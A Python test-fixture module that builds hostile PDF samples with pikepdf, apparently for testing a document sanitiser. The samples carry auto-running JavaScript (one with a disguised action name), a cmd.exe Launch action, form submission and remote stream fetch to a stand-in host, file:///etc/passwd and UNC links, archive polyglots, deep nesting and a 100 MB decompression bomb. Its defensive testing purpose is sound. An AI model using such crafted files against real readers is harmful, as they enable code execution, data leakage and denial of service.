"""Papers that run, fetch, hide or swell: a maker for each."""

import io
import warnings
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.hostile_documents import archive
from tests.hostile_pictures import MARK, SCRIPT, Maker

Change = Callable[[pikepdf.Pdf], object]
SCRIPTED = Dictionary(S=Name.JavaScript, JS=f"app.alert('{MARK.decode()}')")


def pdf(change: Change = lambda _pdf: None, *, pages: int = 1, **saving: Any) -> bytes:
    """A paper of empty pages, changed."""
    made, file = pikepdf.new(), io.BytesIO()
    for _ in range(pages):
        made.add_blank_page()
    change(made)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # that it is a strange paper
        made.save(file, **saving)
    return file.getvalue()


def annotated(**named: Any) -> Maker:
    """A paper with one annotation."""

    def put(made: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **named)
        made.pages[0].obj.Annots = Array([made.make_indirect(note)])

    return lambda: pdf(put)


def linked(**action: Any) -> Maker:
    """A paper with a place that does something when it is pressed."""
    return annotated(Subtype=Name.Link, A=Dictionary(**action))


def with_root(**named: Any) -> Maker:
    """A paper whose root says something more."""

    def put(made: pikepdf.Pdf) -> None:
        for name, value in named.items():
            made.Root[f"/{name}"] = value

    return lambda: pdf(put)


def with_file() -> bytes:
    def put(made: pikepdf.Pdf) -> None:
        made.attachments["x.exe"] = MARK

    return pdf(put)


def from_outside() -> bytes:
    def put(made: pikepdf.Pdf) -> None:
        stream = made.make_stream(b"")
        stream.stream_dict.F = "http://jahat.example/x"
        made.Root.Outside = stream

    return pdf(put)


def nested(depth: int) -> bytes:
    inner = b"[" * depth + b"]" * depth
    return raw_pdf([b"<</Type/Catalog/Pages 2 0 R/Deep " + inner + b">>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"])


def raw_pdf(
    objects: list[bytes], *, page: bytes = b"<</Type/Page/Parent 2 0 R/Resources<<>>/MediaBox[0 0 9 9]>>", tail: bytes = b""
) -> bytes:
    """A paper written by hand, from the objects before its only page."""
    written, places = b"%PDF-1.7\n", list[int]()
    for number, content in enumerate([*objects, page], 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return written + table + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, tail, len(written))


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
ROOT = b"<</Type/Catalog/Pages 2 0 R>>"

PAPERS: dict[str, Maker] = {
    "a paper with a script that runs as it opens": with_root(OpenAction=SCRIPTED),
    "a paper with a script among its names": with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array(["x", SCRIPTED])))),
    "a paper with a script behind a page": lambda: pdf(lambda made: made.pages[0].obj.__setitem__("/AA", Dictionary(O=SCRIPTED))),
    "a paper with a script behind a field": annotated(Subtype=Name.Widget, AA=Dictionary(K=SCRIPTED)),
    "a paper with a script in a packed object": lambda: pdf(
        lambda made: made.Root.__setitem__("/Hidden", made.make_indirect(Dictionary(SCRIPTED))),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    ),
    "a paper with a script whose name is disguised": lambda: raw_pdf([ROOT[:-2] + b"/OpenAction<</S/J#61vaScript/J#53(x)>>>>", PAGES]),
    "a paper that starts a program": linked(S=Name.Launch, F="cmd.exe"),
    "a paper that sends a form": linked(S=Name.SubmitForm, F="http://jahat.example"),
    "a paper that takes data in": linked(S=Name.ImportData, F="x.fdf"),
    "a paper that opens a paper within": linked(S=Name.GoToE, T=Dictionary(R=Name.C)),
    "a paper that opens a file of a neighbour": linked(S=Name.GoToR, F="\\\\jahat\\x.pdf"),
    "a paper that links to a file of the reader": linked(S=Name.URI, URI="file:///etc/passwd"),
    "a paper that links to a script": linked(S=Name.URI, URI="javascript:alert(1)"),
    "a paper that links to a neighbour's folder": linked(S=Name.URI, URI="\\\\jahat\\x"),
    "a paper with a link to a page": linked(S=Name.URI, URI="https://contoh.example/"),
    "a paper with a file within": with_file,
    "a paper with a file pinned to it": annotated(Subtype=Name.FileAttachment),
    "a paper with a player": annotated(Subtype=Name.RichMedia),
    "a paper with a film": annotated(Subtype=Name.Movie),
    "a paper with a screen": annotated(Subtype=Name.Screen),
    "a paper with a body in three dimensions": annotated(Subtype=Name("/3D")),
    "a paper with a form of its own kind": with_root(AcroForm=Dictionary(XFA="x")),
    "a paper that is a case of papers": with_root(Collection=Dictionary(View=Name.D)),
    "a paper that fetches a stream": from_outside,
    "a paper locked for everybody": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    "a paper locked against printing": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")),
    "a paper locked the old way": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b", R=4)),
    "half a paper": lambda: pdf(pages=20)[:700],
    "the first words of a paper": lambda: b"%PDF-1.7\n%%EOF",
    "a paper without a table": lambda: pdf().replace(b"startxref", b"startxxxx"),
    "a paper with a long page of script behind it": lambda: pdf() + SCRIPT * 500,
    "a paper that is an archive too": lambda: pdf() + archive({"x.html": SCRIPT}),
    "a paper behind a page": lambda: SCRIPT + pdf(),
    "a paper behind an archive": lambda: b"PK\x03\x04" + pdf(),
    "a paper of three hundred and one pages": lambda: pdf(pages=301),
    "a paper without pages": lambda: pdf(pages=0),
    "a paper whose pages are its pages": lambda: raw_pdf([ROOT, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99>>"]),
    "a paper of a hundred thousand brackets": lambda: nested(100_000),
    "a paper whose table leads back to itself": lambda: raw_pdf([ROOT, PAGES], tail=b"/Prev 9"),
    "a paper of three hundred thousand words": lambda: raw_pdf([ROOT[:-2] + b"/X[" + b"[] " * 300_000 + b"]>>", PAGES]),
    "a paper with a packed stream of a hundred megabytes": lambda: pdf(
        lambda made: made.Root.__setitem__(
            "/Big", pikepdf.Stream(made, zlib.compress(b"\0" * 100_000_000, 9), {"/Filter": Name.FlateDecode})
        )
    ),
}
